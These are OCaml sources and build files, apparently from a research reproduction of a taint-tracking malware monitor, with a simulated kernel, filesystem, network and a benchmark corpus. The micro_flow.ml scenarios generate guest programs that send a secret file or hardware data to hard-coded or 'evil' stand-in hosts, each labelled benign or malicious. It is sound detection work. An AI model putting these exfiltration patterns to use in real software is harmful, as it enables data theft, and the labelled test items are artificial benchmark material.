