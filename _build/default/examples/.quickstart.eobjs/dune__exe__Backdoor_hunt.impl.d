examples/backdoor_hunt.ml: Fmt Guest Hth List Osim Secpert
