examples/backdoor_hunt.mli:
