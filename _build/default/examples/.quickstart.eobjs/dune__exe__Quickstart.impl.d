examples/quickstart.ml: Asm Binary Fmt Guest Hth List Secpert
