examples/taint_explorer.ml: Binary Fmt Guest Harrier Hth List String Taint
