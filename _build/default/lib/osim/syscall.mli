(** Decoded system calls: the view the kernel hands to the monitor.

    The kernel decodes registers and guest memory once and passes this
    structured view to the monitor's pre/post hooks, so Harrier never
    duplicates ABI decoding.  Resource descriptions (file paths, socket
    peers) are resolved by the kernel — the monitor still consults its own
    shadow memory for taint, using the embedded guest addresses. *)

(** What an fd refers to, resolved at decode time. *)
type resource =
  | R_stdin
  | R_stdout
  | R_stderr
  | R_file of string  (** path *)
  | R_sock of sock_res
  | R_unknown

and sock_res = {
  sr_peer : string option;  (** e.g. ["attacker:4444"] once connected *)
  sr_local : string option;  (** e.g. ["LocalHost:11111"] *)
  sr_server_side : bool;  (** the guest accepted this connection *)
}

type t =
  | Exit of { code : int }
  | Fork
  | Read of { fd : int; res : resource; buf : int; len : int }
  | Write of { fd : int; res : resource; buf : int; len : int }
  | Open of { path_addr : int; path : string; flags : int }
  | Creat of { path_addr : int; path : string }
  | Close of { fd : int; res : resource }
  | Execve of { path_addr : int; path : string; argv : string list }
  | Time
  | Getpid
  | Dup of { fd : int; res : resource }
  | Nanosleep of { duration : int }
  | Brk of { addr : int }  (** 0 queries the current break *)
  | Socket
  | Bind of { fd : int; addr_ptr : int; port : int }
  | Connect of { fd : int; addr_ptr : int; ip : int; port : int;
                 addr_name : string }
  | Listen of { fd : int; port : int }
  | Accept of { fd : int; port : int; out_addr : int;
                mutable peer : string option }
      (** [peer] is filled by the kernel once the connection completes *)
  | Unknown of { number : int }

(** [name sc] is the paper-style label (SYS_execve, SYS_connect, ...).
    Socket sub-calls are given their own names, as the paper treats them
    as distinct events. *)
val name : t -> string

val pp : Format.formatter -> t -> unit
