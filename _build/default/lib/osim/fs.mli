(** The in-memory filesystem.

    Files hold raw bytes.  Executables additionally carry a {!Binary.Image.t}
    (our images are structured values, not byte-encoded, so the kernel
    keeps them alongside the file node).  A file {e written} by a guest
    has no image — exec'ing it fails with ENOEXEC, reproducing the
    paper's Tic-Tac-Toe dropper footnote ("the execution fails since the
    file is not in a executable format"). *)

type file = {
  mutable data : Bytes.t;
  mutable image : Binary.Image.t option;
}

type t

val create : unit -> t

(** [install fs path data] creates a plain file, or replaces the byte
    contents of an existing one (keeping any installed image). *)
val install : t -> string -> string -> unit

(** [install_image fs img] installs an executable or shared object at its
    [img.path], with empty byte contents. *)
val install_image : t -> Binary.Image.t -> unit

val exists : t -> string -> bool

val lookup : t -> string -> file option

(** [image_of fs path] is the image installed at [path], if any. *)
val image_of : t -> string -> Binary.Image.t option

(** [ensure fs path] returns the file at [path], creating an empty one if
    needed. *)
val ensure : t -> string -> file

(** [read_at f ~pos ~len] reads up to [len] bytes from offset [pos]. *)
val read_at : file -> pos:int -> len:int -> string

(** [write_at f ~pos s] writes [s] at offset [pos], growing the file. *)
val write_at : file -> pos:int -> string -> unit

val size : file -> int

val truncate : file -> unit

(** [contents fs path] is the file's full data, for tests and reports. *)
val contents : t -> string -> string option

val paths : t -> string list
