type step =
  | Send of string
  | Expect of int
  | Close

type actor = {
  actor_host : string;
  script : step list;
}

type sock_state =
  | Fresh
  | Bound of int
  | Listening of int
  | Connected of conn
  | Closed

and conn = {
  peer : string;
  local_name : string;
  mutable inbox : string;
  mutable sent : int;
  mutable remaining : step list;
  mutable remote_closed : bool;
  server_side : bool;
}

type socket = { sock_id : int; mutable state : sock_state }

type t = {
  mutable dns : (string * int) list;
  mutable servers : ((int * int) * actor) list;  (* (ip, port) -> actor *)
  mutable incoming : (int * actor) list;  (* listening port -> clients *)
  mutable sockets : socket list;
  mutable next_sock : int;
  mutable conns : conn list;
  mutable next_ephemeral : int;
}

let create () =
  { dns = []; servers = []; incoming = []; sockets = []; next_sock = 1;
    conns = []; next_ephemeral = 36000 }

let add_host t name ip = t.dns <- (name, ip) :: t.dns

let resolve t name = List.assoc_opt name t.dns

let host_of_ip t ip =
  match List.find_opt (fun (_, i) -> i = ip) t.dns with
  | Some (name, _) -> name
  | None ->
    Fmt.str "%d.%d.%d.%d" (ip land 0xFF) ((ip lsr 8) land 0xFF)
      ((ip lsr 16) land 0xFF) ((ip lsr 24) land 0xFF)

let hosts_db t =
  let b = Buffer.create 64 in
  List.iter
    (fun (name, ip) ->
      let padded =
        if String.length name >= 16 then String.sub name 0 16
        else name ^ String.make (16 - String.length name) '\000'
      in
      Buffer.add_string b padded;
      let w = Bytes.create 4 in
      Bytes.set_int32_le w 0 (Int32.of_int ip);
      Buffer.add_bytes b w)
    (List.rev t.dns);
  Buffer.contents b

let add_server t ~host ~port actor =
  let ip =
    match resolve t host with
    | Some ip -> ip
    | None -> failwith (Fmt.str "Net.add_server: unknown host %S" host)
  in
  t.servers <- ((ip, port), actor) :: t.servers

let add_incoming t ~port actor = t.incoming <- t.incoming @ [ port, actor ]

let new_socket t =
  let s = { sock_id = t.next_sock; state = Fresh } in
  t.next_sock <- t.next_sock + 1;
  t.sockets <- s :: t.sockets;
  s

let socket_by_id t id = List.find_opt (fun s -> s.sock_id = id) t.sockets

(* Advance the remote script as far as possible. *)
let rec progress conn =
  match conn.remaining with
  | [] -> ()
  | Send s :: rest ->
    conn.inbox <- conn.inbox ^ s;
    conn.remaining <- rest;
    progress conn
  | Expect n :: rest ->
    if conn.sent >= n then begin
      conn.sent <- conn.sent - n;
      conn.remaining <- rest;
      progress conn
    end
  | Close :: rest ->
    conn.remote_closed <- true;
    conn.remaining <- rest

let make_conn t ~peer ~local_name ~script ~server_side =
  let conn =
    { peer; local_name; inbox = ""; sent = 0; remaining = script;
      remote_closed = false; server_side }
  in
  t.conns <- conn :: t.conns;
  progress conn;
  conn

let connect t sock ~ip ~port =
  match List.assoc_opt (ip, port) t.servers with
  | None -> None
  | Some actor ->
    let peer = Fmt.str "%s:%d" (host_of_ip t ip) port in
    let local = Fmt.str "LocalHost:%d" t.next_ephemeral in
    t.next_ephemeral <- t.next_ephemeral + 1;
    let conn =
      make_conn t ~peer ~local_name:local ~script:actor.script
        ~server_side:false
    in
    sock.state <- Connected conn;
    Some conn

let accept t sock =
  match sock.state with
  | Listening port ->
    let rec take acc = function
      | [] -> None
      | (p, actor) :: rest when p = port ->
        t.incoming <- List.rev_append acc rest;
        Some actor
      | entry :: rest -> take (entry :: acc) rest
    in
    (match take [] t.incoming with
     | None -> None
     | Some actor ->
       let peer = Fmt.str "%s:%d" actor.actor_host t.next_ephemeral in
       t.next_ephemeral <- t.next_ephemeral + 1;
       let local = Fmt.str "LocalHost:%d" port in
       Some (make_conn t ~peer ~local_name:local ~script:actor.script
               ~server_side:true))
  | Fresh | Bound _ | Connected _ | Closed -> None

let guest_send conn s =
  conn.sent <- conn.sent + String.length s;
  progress conn

let guest_recv conn n =
  let avail = String.length conn.inbox in
  if avail = 0 then ""
  else begin
    let n = min n avail in
    let chunk = String.sub conn.inbox 0 n in
    conn.inbox <- String.sub conn.inbox n (avail - n);
    chunk
  end

let conn_log t = List.rev_map (fun c -> c.peer, c.sent) t.conns
