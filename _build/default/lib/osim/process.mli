(** Processes: a machine plus kernel-side state (fd table, run state). *)

type fd_kind =
  | Std_in
  | Std_out
  | Std_err
  | Fd_file of { path : string; mutable offset : int; flags : int }
  | Fd_sock of Net.socket

type run_state =
  | Runnable
  | Sleeping of int  (** absolute wake tick *)
  | Waiting_io  (** blocked in a retried syscall *)
  | Exited of int
  | Killed of string  (** fault, policy kill or deadlock reap *)

type t = {
  pid : int;
  mutable machine : Vm.Machine.t;  (** replaced wholesale by execve *)
  fds : (int, fd_kind) Hashtbl.t;
  mutable next_fd : int;
  mutable state : run_state;
  mutable exe_path : string;
  mutable argv : string list;
  mutable pending : int option;  (** retried syscall number, if blocked *)
  mutable brk : int;  (** current program break (heap end) *)
}

(** Initial program break for every process (the heap base). *)
val initial_brk : int

val create : pid:int -> machine:Vm.Machine.t -> exe_path:string ->
  argv:string list -> t

(** [with_std_fds p] installs fds 0, 1, 2. *)
val with_std_fds : t -> t

val alloc_fd : t -> fd_kind -> int

val fd : t -> int -> fd_kind option

val close_fd : t -> int -> bool

(** [copy_fds ~src ~dst] duplicates the descriptor table for fork: file
    entries get independent offsets, sockets are shared. *)
val copy_fds : src:t -> dst:t -> unit

val is_live : t -> bool

val pp_state : Format.formatter -> run_state -> unit
