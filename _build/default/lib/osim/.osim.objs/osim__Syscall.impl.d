lib/osim/syscall.ml: Fmt
