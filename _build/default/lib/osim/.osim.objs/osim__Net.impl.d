lib/osim/net.ml: Buffer Bytes Fmt Int32 List String
