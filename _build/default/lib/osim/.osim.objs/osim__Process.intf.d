lib/osim/process.mli: Format Hashtbl Net Vm
