lib/osim/kernel.mli: Binary Format Fs Net Process Syscall Vm
