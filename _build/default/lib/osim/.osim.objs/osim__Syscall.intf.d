lib/osim/syscall.mli: Format
