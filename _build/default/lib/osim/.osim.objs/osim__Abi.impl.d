lib/osim/abi.ml: Fmt
