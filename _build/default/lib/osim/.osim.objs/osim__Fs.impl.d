lib/osim/fs.ml: Binary Bytes Hashtbl List Option String
