lib/osim/net.mli:
