lib/osim/fs.mli: Binary Bytes
