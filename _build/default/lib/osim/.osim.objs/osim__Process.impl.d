lib/osim/process.ml: Fmt Hashtbl Net Vm
