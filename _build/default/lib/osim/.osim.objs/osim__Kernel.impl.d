lib/osim/kernel.ml: Abi Binary Buffer Fmt Fs List Logs Net Process String Syscall Vm
