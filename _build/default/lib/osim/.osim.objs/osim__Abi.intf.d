lib/osim/abi.mli:
