type file = {
  mutable data : Bytes.t;
  mutable image : Binary.Image.t option;
}

type t = (string, file) Hashtbl.t

let create () : t = Hashtbl.create 32

let install fs path data =
  match Hashtbl.find_opt fs path with
  | Some f -> f.data <- Bytes.of_string data
  | None -> Hashtbl.replace fs path { data = Bytes.of_string data; image = None }

let install_image fs (img : Binary.Image.t) =
  Hashtbl.replace fs img.path { data = Bytes.empty; image = Some img }

let exists fs path = Hashtbl.mem fs path

let lookup fs path = Hashtbl.find_opt fs path

let image_of fs path =
  match lookup fs path with
  | Some { image; _ } -> image
  | None -> None

let ensure fs path =
  match lookup fs path with
  | Some f -> f
  | None ->
    let f = { data = Bytes.empty; image = None } in
    Hashtbl.replace fs path f;
    f

let size f = Bytes.length f.data

let read_at f ~pos ~len =
  if pos >= size f then ""
  else
    let len = min len (size f - pos) in
    Bytes.sub_string f.data pos len

let write_at f ~pos s =
  let needed = pos + String.length s in
  if needed > size f then begin
    let grown = Bytes.make needed '\000' in
    Bytes.blit f.data 0 grown 0 (size f);
    f.data <- grown
  end;
  Bytes.blit_string s 0 f.data pos (String.length s)

let truncate f = f.data <- Bytes.empty

let contents fs path =
  Option.map (fun f -> Bytes.to_string f.data) (lookup fs path)

let paths fs = Hashtbl.fold (fun p _ acc -> p :: acc) fs [] |> List.sort compare
