type fd_kind =
  | Std_in
  | Std_out
  | Std_err
  | Fd_file of { path : string; mutable offset : int; flags : int }
  | Fd_sock of Net.socket

type run_state =
  | Runnable
  | Sleeping of int
  | Waiting_io
  | Exited of int
  | Killed of string

type t = {
  pid : int;
  mutable machine : Vm.Machine.t;
  fds : (int, fd_kind) Hashtbl.t;
  mutable next_fd : int;
  mutable state : run_state;
  mutable exe_path : string;
  mutable argv : string list;
  mutable pending : int option;
  mutable brk : int;
}

(* initial program break: above the loaded images, below the stack *)
let initial_brk = 0x70000

let create ~pid ~machine ~exe_path ~argv =
  { pid; machine; fds = Hashtbl.create 8; next_fd = 3; state = Runnable;
    exe_path; argv; pending = None; brk = initial_brk }

let with_std_fds p =
  Hashtbl.replace p.fds 0 Std_in;
  Hashtbl.replace p.fds 1 Std_out;
  Hashtbl.replace p.fds 2 Std_err;
  p

let alloc_fd p kind =
  let fd = p.next_fd in
  p.next_fd <- fd + 1;
  Hashtbl.replace p.fds fd kind;
  fd

let fd p n = Hashtbl.find_opt p.fds n

let close_fd p n =
  if Hashtbl.mem p.fds n then begin
    Hashtbl.remove p.fds n;
    true
  end
  else false

let copy_fds ~src ~dst =
  Hashtbl.iter
    (fun n kind ->
      let kind' =
        match kind with
        | Fd_file { path; offset; flags } -> Fd_file { path; offset; flags }
        | (Std_in | Std_out | Std_err | Fd_sock _) as k -> k
      in
      Hashtbl.replace dst.fds n kind')
    src.fds;
  dst.next_fd <- src.next_fd

let is_live p =
  match p.state with
  | Runnable | Sleeping _ | Waiting_io -> true
  | Exited _ | Killed _ -> false

let pp_state ppf = function
  | Runnable -> Fmt.string ppf "runnable"
  | Sleeping t -> Fmt.pf ppf "sleeping(until=%d)" t
  | Waiting_io -> Fmt.string ppf "waiting-io"
  | Exited c -> Fmt.pf ppf "exited(%d)" c
  | Killed why -> Fmt.pf ppf "killed(%s)" why
