type resource =
  | R_stdin
  | R_stdout
  | R_stderr
  | R_file of string
  | R_sock of sock_res
  | R_unknown

and sock_res = {
  sr_peer : string option;
  sr_local : string option;
  sr_server_side : bool;
}

type t =
  | Exit of { code : int }
  | Fork
  | Read of { fd : int; res : resource; buf : int; len : int }
  | Write of { fd : int; res : resource; buf : int; len : int }
  | Open of { path_addr : int; path : string; flags : int }
  | Creat of { path_addr : int; path : string }
  | Close of { fd : int; res : resource }
  | Execve of { path_addr : int; path : string; argv : string list }
  | Time
  | Getpid
  | Dup of { fd : int; res : resource }
  | Nanosleep of { duration : int }
  | Brk of { addr : int }
  | Socket
  | Bind of { fd : int; addr_ptr : int; port : int }
  | Connect of { fd : int; addr_ptr : int; ip : int; port : int;
                 addr_name : string }
  | Listen of { fd : int; port : int }
  | Accept of { fd : int; port : int; out_addr : int;
                mutable peer : string option }
  | Unknown of { number : int }

let name = function
  | Exit _ -> "SYS_exit"
  | Fork -> "SYS_clone"
  | Read _ -> "SYS_read"
  | Write _ -> "SYS_write"
  | Open _ -> "SYS_open"
  | Creat _ -> "SYS_creat"
  | Close _ -> "SYS_close"
  | Execve _ -> "SYS_execve"
  | Time -> "SYS_time"
  | Getpid -> "SYS_getpid"
  | Dup _ -> "SYS_dup"
  | Nanosleep _ -> "SYS_nanosleep"
  | Brk _ -> "SYS_brk"
  | Socket -> "SYS_socket"
  | Bind _ -> "SYS_bind"
  | Connect _ -> "SYS_connect"
  | Listen _ -> "SYS_listen"
  | Accept _ -> "SYS_accept"
  | Unknown { number } -> Fmt.str "SYS_%d" number

let pp_resource ppf = function
  | R_stdin -> Fmt.string ppf "stdin"
  | R_stdout -> Fmt.string ppf "stdout"
  | R_stderr -> Fmt.string ppf "stderr"
  | R_file p -> Fmt.pf ppf "file(%s)" p
  | R_sock { sr_peer; sr_local; sr_server_side } ->
    Fmt.pf ppf "sock(peer=%a local=%a%s)"
      Fmt.(option ~none:(any "-") string) sr_peer
      Fmt.(option ~none:(any "-") string) sr_local
      (if sr_server_side then " server" else "")
  | R_unknown -> Fmt.string ppf "?"

let pp ppf sc =
  match sc with
  | Exit { code } -> Fmt.pf ppf "exit(%d)" code
  | Fork -> Fmt.string ppf "fork()"
  | Read { fd; res; len; _ } ->
    Fmt.pf ppf "read(%d:%a, %d)" fd pp_resource res len
  | Write { fd; res; len; _ } ->
    Fmt.pf ppf "write(%d:%a, %d)" fd pp_resource res len
  | Open { path; flags; _ } -> Fmt.pf ppf "open(%S, 0x%x)" path flags
  | Creat { path; _ } -> Fmt.pf ppf "creat(%S)" path
  | Close { fd; res } -> Fmt.pf ppf "close(%d:%a)" fd pp_resource res
  | Execve { path; argv; _ } ->
    Fmt.pf ppf "execve(%S, [%a])" path Fmt.(list ~sep:(any "; ") string) argv
  | Time -> Fmt.string ppf "time()"
  | Getpid -> Fmt.string ppf "getpid()"
  | Dup { fd; res } -> Fmt.pf ppf "dup(%d:%a)" fd pp_resource res
  | Nanosleep { duration } -> Fmt.pf ppf "nanosleep(%d)" duration
  | Brk { addr } -> Fmt.pf ppf "brk(0x%x)" addr
  | Socket -> Fmt.string ppf "socket()"
  | Bind { fd; port; _ } -> Fmt.pf ppf "bind(%d, port=%d)" fd port
  | Connect { fd; addr_name; _ } -> Fmt.pf ppf "connect(%d, %s)" fd addr_name
  | Listen { fd; port } -> Fmt.pf ppf "listen(%d, port=%d)" fd port
  | Accept { fd; port; peer; _ } ->
    Fmt.pf ppf "accept(%d, port=%d, peer=%a)" fd port
      Fmt.(option ~none:(any "?") string) peer
  | Unknown { number } -> Fmt.pf ppf "syscall(%d)" number
