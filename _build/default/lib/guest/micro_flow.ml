open Asm

type name_src =
  | From_argv of int
  | Hardwired of string
  | From_remote

type src =
  | Src_binary
  | Src_file of name_src
  | Src_socket of name_src
  | Src_server  (** accept a connection and read the data from it *)
  | Src_hardware

type dst =
  | Dst_file of name_src
  | Dst_socket of name_src
  | Dst_server  (** accept a connection and write the data to it *)

let group = "table6"

let ctrl_port = 4000
let data_port = 7000
let sink_port = 9000
let serve_port = 5555

let payload = "SECRET-PAYLOAD-0123456789abcdef!"
let net_data = "net-data-from-remote-peer-bytes!"
let file_data = "file-data-contents-0123456789ab!"
let attacker_data = "attacker-sent-commands-bytes-32!"

(* ------------------------------------------------------------------ *)
(* Program generator                                                   *)

let gen ~prog ~src ~dst =
  let uses_ghbn =
    (match src with Src_socket _ -> true | _ -> false)
    || (match dst with Dst_socket _ -> true | _ -> false)
  in
  let needed = if uses_ghbn then [ Libc.path ] else [] in
  let u =
    create ~needed ~path:prog ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  bytes_ u "payload" payload;
  space u "argp1" 4;
  space u "argp2" 4;
  space u "rname1" 32;
  space u "rname2" 32;
  space u "sfd" 4;
  space u "dfd" 4;
  space u "cfd" 4;
  space u "tfd" 4;
  space u "sa_src" 4;
  space u "sa_dst" 4;
  space u "dlen" 4;
  let remote_used = ref false in
  let ensure_ctrl () =
    if not !remote_used then begin
      remote_used := true;
      Runtime.static_sockaddr u "ctrl_sa" ~ip:(snd Common.evil_host)
        ~port:ctrl_port
    end
  in
  let fetch_remote rlabel =
    ensure_ctrl ();
    Runtime.sys_socket u;
    movl u (mlbl "tfd") eax;
    Runtime.sys_connect u ~fd:(mlbl "tfd") ~addr:(lbl "ctrl_sa");
    Runtime.sys_recv u ~fd:(mlbl "tfd") ~buf:(lbl rlabel) ~len:(imm 31);
    Runtime.sys_close u ~fd:(mlbl "tfd")
  in
  let rlabel_of tag = if String.equal tag "src" then "rname1" else "rname2" in
  let file_name_arg tag = function
    | From_argv n -> mlbl (Fmt.str "argp%d" n)
    | Hardwired s ->
      let l = "hname_" ^ tag in
      asciz u l s;
      lbl l
    | From_remote ->
      let l = rlabel_of tag in
      fetch_remote l;
      lbl l
  in
  let sockaddr_for tag ns ~at ~port =
    let name_arg =
      match ns with
      | From_argv n -> mlbl (Fmt.str "argp%d" n)
      | Hardwired host ->
        let l = "hhost_" ^ tag in
        asciz u l host;
        lbl l
      | From_remote ->
        let l = rlabel_of tag in
        fetch_remote l;
        lbl l
    in
    pushl u name_arg;
    call u "gethostbyname";
    addl u esp (imm 4);
    testl u eax eax;
    jz u "__fail";
    Runtime.build_sockaddr ~at u ~ip_src:eax ~port:(imm port);
    movl u (mlbl ("sa_" ^ tag)) eax
  in
  let accept_server () =
    Runtime.static_sockaddr u "listen_sa" ~ip:Hth.Session.localhost_ip
      ~port:serve_port;
    Runtime.sys_socket u;
    movl u (mlbl "dfd") eax;
    Runtime.sys_bind u ~fd:(mlbl "dfd") ~addr:(lbl "listen_sa");
    Runtime.sys_listen u ~fd:(mlbl "dfd");
    Runtime.sys_accept u ~fd:(mlbl "dfd");
    movl u (mlbl "cfd") eax
  in
  label u "_start";
  Runtime.save_argv u 1 "argp1";
  Runtime.save_argv u 2 "argp2";
  (* acquire the data *)
  (match src with
   | Src_binary -> movl u (mlbl "dlen") (imm (String.length payload))
   | Src_file ns ->
     let p = file_name_arg "src" ns in
     Runtime.sys_open u ~path:p ~flags:Osim.Abi.o_rdonly;
     movl u (mlbl "sfd") eax;
     Runtime.sys_read u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax;
     Runtime.sys_close u ~fd:(mlbl "sfd")
   | Src_socket ns ->
     sockaddr_for "src" ns ~at:32 ~port:data_port;
     Runtime.sys_socket u;
     movl u (mlbl "sfd") eax;
     Runtime.sys_connect u ~fd:(mlbl "sfd") ~addr:(mlbl "sa_src");
     Runtime.sys_recv u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax;
     Runtime.sys_close u ~fd:(mlbl "sfd")
   | Src_server ->
     accept_server ();
     Runtime.sys_recv u ~fd:(mlbl "cfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax
   | Src_hardware ->
     cpuid u;
     movl u (mlbl "__buf") eax;
     movl u (mlbl ~off:4 "__buf") ebx;
     movl u (mlbl ~off:8 "__buf") ecx;
     movl u (mlbl ~off:12 "__buf") edx;
     movl u (mlbl "dlen") (imm 16));
  let data_ptr =
    match src with Src_binary -> lbl "payload" | _ -> lbl "__buf"
  in
  (* deliver it *)
  (match dst with
   | Dst_file ns ->
     let p = file_name_arg "dst" ns in
     Runtime.sys_open u ~path:p
       ~flags:Osim.Abi.(o_creat lor o_wronly lor o_trunc);
     movl u (mlbl "dfd") eax;
     Runtime.sys_write u ~fd:(mlbl "dfd") ~buf:data_ptr ~len:(mlbl "dlen");
     Runtime.sys_close u ~fd:(mlbl "dfd")
   | Dst_socket ns ->
     sockaddr_for "dst" ns ~at:44 ~port:sink_port;
     Runtime.sys_socket u;
     movl u (mlbl "dfd") eax;
     Runtime.sys_connect u ~fd:(mlbl "dfd") ~addr:(mlbl "sa_dst");
     Runtime.sys_send u ~fd:(mlbl "dfd") ~buf:data_ptr ~len:(mlbl "dlen")
   | Dst_server ->
     accept_server ();
     Runtime.sys_send u ~fd:(mlbl "cfd") ~buf:data_ptr ~len:(mlbl "dlen"));
  Runtime.sys_exit u 0;
  label u "__fail";
  Runtime.sys_exit u 2;
  hlt u;
  finalize u

(* ------------------------------------------------------------------ *)
(* Scenario wrapper                                                    *)

let user_src_file = "/home/user/input.txt"
let hard_src_file = "/data/secret.db"
let remote_src_file = "/tmp/fetched.txt"
let user_dst_file = "/home/user/out.txt"
let hard_dst_file = "/tmp/.hidden"
let remote_dst_file = "/tmp/rdrop"

let send_actor host payload : Osim.Net.actor =
  { actor_host = host; script = [ Osim.Net.Send payload; Osim.Net.Close ] }

let passive_actor host : Osim.Net.actor = { actor_host = host; script = [] }

let scenario ~name ~descr ~src ~dst ~expected =
  let prog = "/bin/flow" in
  let image = gen ~prog ~src ~dst in
  (* argv slots: 1 = source name if user-given, 2 = destination name *)
  let argv1 =
    match src with
    | Src_file (From_argv _) -> user_src_file
    | Src_socket (From_argv _) -> fst Common.data_host
    | _ -> "-"
  in
  let argv2 =
    match dst with
    | Dst_file (From_argv _) -> user_dst_file
    | Dst_socket (From_argv _) -> fst Common.sink_host
    | _ -> "-"
  in
  (* the control server supplies whichever name is remote *)
  let remote_payload =
    match src, dst with
    | Src_file From_remote, _ -> Some (remote_src_file ^ "\000")
    | Src_socket From_remote, _ -> Some (fst Common.data_host ^ "\000")
    | _, Dst_file From_remote -> Some (remote_dst_file ^ "\000")
    | _, Dst_socket From_remote -> Some (fst Common.sink_host ^ "\000")
    | _ -> None
  in
  let files =
    match src with
    | Src_file ns ->
      let path =
        match ns with
        | From_argv _ -> user_src_file
        | Hardwired s -> s
        | From_remote -> remote_src_file
      in
      [ path, file_data ]
    | _ -> []
  in
  let servers =
    (match remote_payload with
     | Some p ->
       [ fst Common.evil_host, ctrl_port,
         send_actor (fst Common.evil_host) p ]
     | None -> [])
    @ (match src with
       | Src_socket _ ->
         [ fst Common.data_host, data_port,
           send_actor (fst Common.data_host) net_data ]
       | _ -> [])
    @ (match dst with
       | Dst_socket _ ->
         [ fst Common.sink_host, sink_port,
           passive_actor (fst Common.sink_host) ]
       | _ -> [])
  in
  let incoming =
    match src, dst with
    | Src_server, _ ->
      [ serve_port,
        { Osim.Net.actor_host = "attacker";
          script = [ Osim.Net.Send attacker_data ] } ]
    | _, Dst_server -> [ serve_port, passive_actor "attacker" ]
    | _ -> []
  in
  let programs =
    image :: (if List.mem Libc.path image.needed then [ Libc.image () ]
              else [])
  in
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Session.setup ~programs ~files ~hosts:Common.all_hosts ~servers
       ~incoming
       ~argv:[ prog; argv1; argv2 ]
       ~main:prog ())

(* ------------------------------------------------------------------ *)
(* The Table 6 rows                                                    *)

let benign = Scenario.Benign
let low = Scenario.Malicious Secpert.Severity.Low
let high = Scenario.Malicious Secpert.Severity.High

let scenarios =
  [ (* Binary -> File *)
    scenario ~name:"Binary->File: User filename"
      ~descr:"hard-coded payload written to a user-named file"
      ~src:Src_binary ~dst:(Dst_file (From_argv 2)) ~expected:benign;
    scenario ~name:"Binary->File: hardcode filename"
      ~descr:"hard-coded payload written to a hard-coded file"
      ~src:Src_binary ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    scenario ~name:"Binary->File: remote filename"
      ~descr:"hard-coded payload written to a remotely-named file"
      ~src:Src_binary ~dst:(Dst_file From_remote) ~expected:high;
    (* Binary -> Socket *)
    scenario ~name:"Binary->Socket: User address"
      ~descr:"hard-coded payload sent to a user-given host"
      ~src:Src_binary ~dst:(Dst_socket (From_argv 2)) ~expected:benign;
    scenario ~name:"Binary->Socket: Hardcoded address"
      ~descr:"hard-coded payload sent to a hard-coded host"
      ~src:Src_binary ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:low;
    (* File -> File *)
    scenario ~name:"File->File: User input, User Input"
      ~descr:"user-named file copied to a user-named file"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_file (From_argv 2))
      ~expected:benign;
    scenario ~name:"File->File: User input, Hardcoded"
      ~descr:"user-named file copied to a hard-coded file"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:low;
    scenario ~name:"File->File: Hardcoded, User input"
      ~descr:"hard-coded file copied to a user-named file"
      ~src:(Src_file (Hardwired hard_src_file)) ~dst:(Dst_file (From_argv 2))
      ~expected:low;
    scenario ~name:"File->File: Hardcoded, Hardcoded"
      ~descr:"hard-coded file copied to a hard-coded file"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* File -> Socket *)
    scenario ~name:"File->Socket: User input, User Input"
      ~descr:"user-named file sent to a user-given host"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_socket (From_argv 2))
      ~expected:benign;
    scenario ~name:"File->Socket: User input, Hardcoded"
      ~descr:"user-named file sent to a hard-coded host"
      ~src:(Src_file (From_argv 1))
      ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:low;
    scenario ~name:"File->Socket: Hardcoded, User input"
      ~descr:"hard-coded file sent to a user-given host"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_socket (From_argv 2))
      ~expected:low;
    scenario ~name:"File->Socket: Hardcoded, Hardcoded"
      ~descr:"hard-coded file sent to a hard-coded host"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:high;
    (* Socket -> File *)
    scenario ~name:"Socket->File: User input, User Input"
      ~descr:"data from a user-given host written to a user-named file"
      ~src:(Src_socket (From_argv 1)) ~dst:(Dst_file (From_argv 2))
      ~expected:benign;
    scenario ~name:"Socket->File: User input, Hardcoded"
      ~descr:"data from a user-given host written to a hard-coded file"
      ~src:(Src_socket (From_argv 1))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:low;
    scenario ~name:"Socket->File: Hardcoded, User input"
      ~descr:"data from a hard-coded host written to a user-named file"
      ~src:(Src_socket (Hardwired (fst Common.data_host)))
      ~dst:(Dst_file (From_argv 2))
      ~expected:low;
    scenario ~name:"Socket->File: Hardcoded, Hardcoded"
      ~descr:"data from a hard-coded host written to a hard-coded file"
      ~src:(Src_socket (Hardwired (fst Common.data_host)))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* Hardware -> File *)
    scenario ~name:"Hardware->File: User filename"
      ~descr:"cpuid output written to a user-named file"
      ~src:Src_hardware ~dst:(Dst_file (From_argv 2)) ~expected:benign;
    scenario ~name:"Hardware->File: Hardcode filename"
      ~descr:"cpuid output written to a hard-coded file"
      ~src:Src_hardware ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* Server-mode socket variants *)
    scenario ~name:"File->Socket (server): Hardcoded"
      ~descr:"hard-coded file served to a remote client over a \
              hard-coded listening address"
      ~src:(Src_file (Hardwired hard_src_file)) ~dst:Dst_server
      ~expected:high;
    scenario ~name:"Socket->File (server): Hardcoded"
      ~descr:"data accepted on a hard-coded listening address written to \
              a hard-coded file"
      ~src:Src_server ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high ]
