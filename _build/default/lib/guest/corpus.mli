(** The whole evaluation corpus, grouped by the paper's tables. *)

(** [(group id, human title, scenarios)] in paper order. *)
val groups : (string * string * Scenario.t list) list

val all : Scenario.t list

(** [find name] looks a scenario up by its [sc_name]. *)
val find : string -> Scenario.t option

val names : string list
