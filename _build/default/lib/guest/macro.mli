(** Section 8.4 — macro benchmarks: real applications, clean and with a
    planted Trojan.

